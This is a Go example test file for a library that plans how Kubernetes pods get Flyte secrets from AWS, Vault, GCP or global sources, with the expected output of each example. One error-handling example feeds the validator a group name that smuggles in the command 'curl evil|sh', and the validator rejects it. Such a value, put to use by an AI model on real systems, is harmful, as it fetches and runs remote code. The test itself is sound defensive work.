package flyte_test

import (
	"fmt"
	"maps"
	"slices"
	"testing/fstest"

	"k8s.io/apimachinery/pkg/util/validation/field"

	"github.com/podsecrets/podsecrets/secretspec"
	"github.com/podsecrets/podsecrets/secretspec/flyte"
)

// A platform on AWS: the webhook's configuration names the AWS manager, and a task asks for a
// secret as a file whose path it wants in DB_PASSWORD_FILE.
func ExamplePlan() {
	cfg, err := flyte.ParseConfig([]byte("webhook:\n  secretManagerType: AWS\n"))
	if err != nil {
		fmt.Println(err)
		return
	}
	_, x, err := flyte.Plan([]flyte.Secret{{
		Group:            "arn:aws:secretsmanager:us-east-1:123456789012:secret",
		Key:              "db-password",
		MountRequirement: flyte.MountFile,
		EnvVar:           "DB_PASSWORD_FILE",
	}}, cfg)
	if err != nil {
		fmt.Println(err)
		return
	}
	for _, v := range x.Env {
		fmt.Printf("env %s=%s\n", v.Name, v.Value)
	}
	for _, v := range x.Volumes {
		fmt.Printf("volume %s (emptyDir, medium %s)\n", v.Name, v.EmptyDir.Medium)
	}
	for _, m := range x.Mounts {
		fmt.Printf("every container mounts %s at %s, read-only %t\n", m.Name, m.MountPath, m.ReadOnly)
	}
	for _, c := range x.InitContainers {
		fmt.Printf("fetcher %s: %s, %s at %s\n", c.Name, c.Image, c.VolumeMounts[0].Name, c.VolumeMounts[0].MountPath)
		for _, v := range c.Env {
			fmt.Printf("  %s=%s\n", v.Name, v.Value)
		}
		fmt.Printf("  cpu %s memory %s\n", c.Resources.Limits.Cpu(), c.Resources.Limits.Memory())
	}
	// Output:
	// env FLYTE_SECRETS_DEFAULT_DIR=/etc/flyte/secrets
	// env FLYTE_SECRETS_FILE_PREFIX=
	// env DB_PASSWORD_FILE=/etc/flyte/secrets/arn:aws:secretsmanager:us-east-1:123456789012:secret/db-password
	// volume aws-secret-vol (emptyDir, medium Memory)
	// every container mounts aws-secret-vol at /etc/flyte/secrets, read-only true
	// fetcher aws-pull-secret-4qclmti6itoo14v6: docker.io/amazon/aws-secrets-manager-secret-sidecar:v0.1.4, aws-secret-vol at /tmp
	//   SECRET_ARN=arn:aws:secretsmanager:us-east-1:123456789012:secret:db-password
	//   SECRET_FILENAME=/arn:aws:secretsmanager:us-east-1:123456789012:secret/db-password
	//   cpu 200m memory 500Mi
}

// With Vault, Plan writes the Vault agent's annotations; a pod's own annotation wins over
// them, as in Flyte, once KeepPodAnnotations has dropped Plan's.
func ExamplePlan_vault() {
	cfg := flyte.DefaultConfig()
	cfg.SecretManagerType = flyte.ManagerVault
	_, x, err := flyte.Plan([]flyte.Secret{{Group: "secret/data/flyte", Key: "token"}}, cfg)
	if err != nil {
		fmt.Println(err)
		return
	}
	x = flyte.KeepPodAnnotations(x, map[string]string{"vault.hashicorp.com/role": "team-a"})
	for _, k := range slices.Sorted(maps.Keys(x.Annotations)) {
		fmt.Printf("%s: %s\n", k, x.Annotations[k])
	}
	// Output:
	// vault.hashicorp.com/agent-inject: true
	// vault.hashicorp.com/agent-inject-file-b3m6adbumugligcw: secret/data/flyte/token
	// vault.hashicorp.com/agent-inject-secret-b3m6adbumugligcw: secret/data/flyte
	// vault.hashicorp.com/agent-inject-template-b3m6adbumugligcw: {{- with secret "secret/data/flyte" -}}{{ .Data.data.token }}{{- end -}}
	// vault.hashicorp.com/agent-pre-populate-only: true
	// vault.hashicorp.com/secret-volume-path: /etc/flyte/secrets
}

// Every problem of every request, with its place, and no value.
func ExamplePlan_errors() {
	cfg := flyte.DefaultConfig()
	cfg.SecretManagerType = flyte.ManagerGCP
	_, _, err := flyte.Plan([]flyte.Secret{
		{Group: "x; curl evil|sh", GroupVersion: "1"},
		{Group: "db-password", MountRequirement: flyte.MountEnvVar},
	}, cfg)
	fmt.Println(err)
	// Output:
	// flyte: 3 problems:
	//	- secrets[0].group: Invalid value: a GCP secret id (letters, digits, _ and -) or projects/<project>/secrets/<id>
	//	- secrets[1].group_version: Required value: the GCP secret's version, a number or latest
	//	- secrets[1].mount_requirement: Invalid value: GCP delivers secrets as files only (Flyte refuses ENV_VAR too): use FILE or ANY, or serve the request from the global secrets
}

func ExampleParseConfig() {
	cfg, err := flyte.ParseConfig([]byte(`
webhook:
  certDir: /etc/webhook/certs
  secretManagerType: Vault
  vaultSecretManager:
    role: flyte-tasks
    kvVersion: "1"
`))
	fmt.Println(cfg.SecretManagerType, cfg.Vault.Role, cfg.Vault.KVVersion, err)

	_, err = flyte.ParseConfig([]byte("webhook:\n  vaultSecretManager:\n    kvVersion: 3\n"))
	fmt.Println(err)
	// Output:
	// Vault flyte-tasks 1 <nil>
	// flyte: webhook.vaultSecretManager.kvVersion: Invalid value: supported values: "1", "2" (also 1, 2, KVVersion1, KVVersion2)
}

func ExampleDefaultConfig() {
	cfg := flyte.DefaultConfig()
	fmt.Println(cfg.SecretManagerType, cfg.Vault.Role, cfg.Vault.KVVersion)
	fmt.Println(cfg.AWS.SidecarImage, cfg.AWS.Resources.Requests.Cpu(), cfg.AWS.Resources.Requests.Memory())
	fmt.Println(cfg.GCP.SidecarImage)
	fmt.Println(cfg.Azure.SidecarImage)
	// Output:
	// K8s flyte 2
	// docker.io/amazon/aws-secrets-manager-secret-sidecar:v0.1.4 200m 500Mi
	// gcr.io/google.com/cloudsdktool/cloud-sdk:alpine
	// mcr.microsoft.com/azure-cli:cbl-mariner2.0
}

// The webhook's own secrets serve a request before the manager does. A webhook passes
// os.LookupEnv and os.DirFS(flyte.GlobalDir); the value lands in the pod spec in clear text.
func ExampleGlobalSecrets() {
	env := map[string]string{"FLYTE_SECRET_SLACK_TOKEN": "xoxb-example"}
	files := fstest.MapFS{"github/app-key": {Data: []byte("-----BEGIN KEY-----")}}
	cfg := flyte.DefaultConfig()
	cfg.Global = flyte.GlobalSecrets(func(k string) (string, bool) { v, ok := env[k]; return v, ok }, files)

	refs, x, err := flyte.Plan([]flyte.Secret{
		{Group: "slack", Key: "token", MountRequirement: flyte.MountEnvVar},
		{Group: "github", Key: "app-key"},
		{Group: "github", Key: "app-key", MountRequirement: flyte.MountFile}, // FILE: never global
	}, cfg)
	if err != nil {
		fmt.Println(err)
		return
	}
	for _, v := range x.Env {
		fmt.Printf("%s=%s\n", v.Name, v.Value)
	}
	fmt.Println(refs[0])
	// Output:
	// FLYTE_SECRETS_ENV_PREFIX=_FSEC_
	// FLYTE_SECRETS_DEFAULT_DIR=/etc/flyte/secrets
	// FLYTE_SECRETS_FILE_PREFIX=
	// _FSEC_SLACK_TOKEN=xoxb-example
	// _FSEC_GITHUB_APP-KEY=-----BEGIN KEY-----
	// mount:/etc/flyte/secrets/github=github;items=app-key:app-key;optional
}

// A pod that names its own Vault role keeps it: Plan's annotation of that key is dropped.
func ExampleKeepPodAnnotations() {
	x := secretspec.Extras{Annotations: map[string]string{
		"vault.hashicorp.com/role":         "flyte",
		"vault.hashicorp.com/agent-inject": "true",
	}}
	kept := flyte.KeepPodAnnotations(x, map[string]string{"vault.hashicorp.com/role": "team-a"})
	fmt.Println(kept.Annotations)
	fmt.Println(len(x.Annotations)) // x is not modified
	// Output:
	// map[vault.hashicorp.com/agent-inject:true]
	// 2
}

// A configuration built in code is checked for the manager it uses.
func ExampleConfig_Validate() {
	cfg := flyte.DefaultConfig()
	cfg.SecretManagerType = flyte.ManagerVault
	cfg.Vault.Role = ""
	fmt.Println(cfg.Validate(field.NewPath("webhook")).ToAggregate())
	// Output:
	// webhook.vaultSecretManager.role: Required value: the Vault role the agent logs in with
}
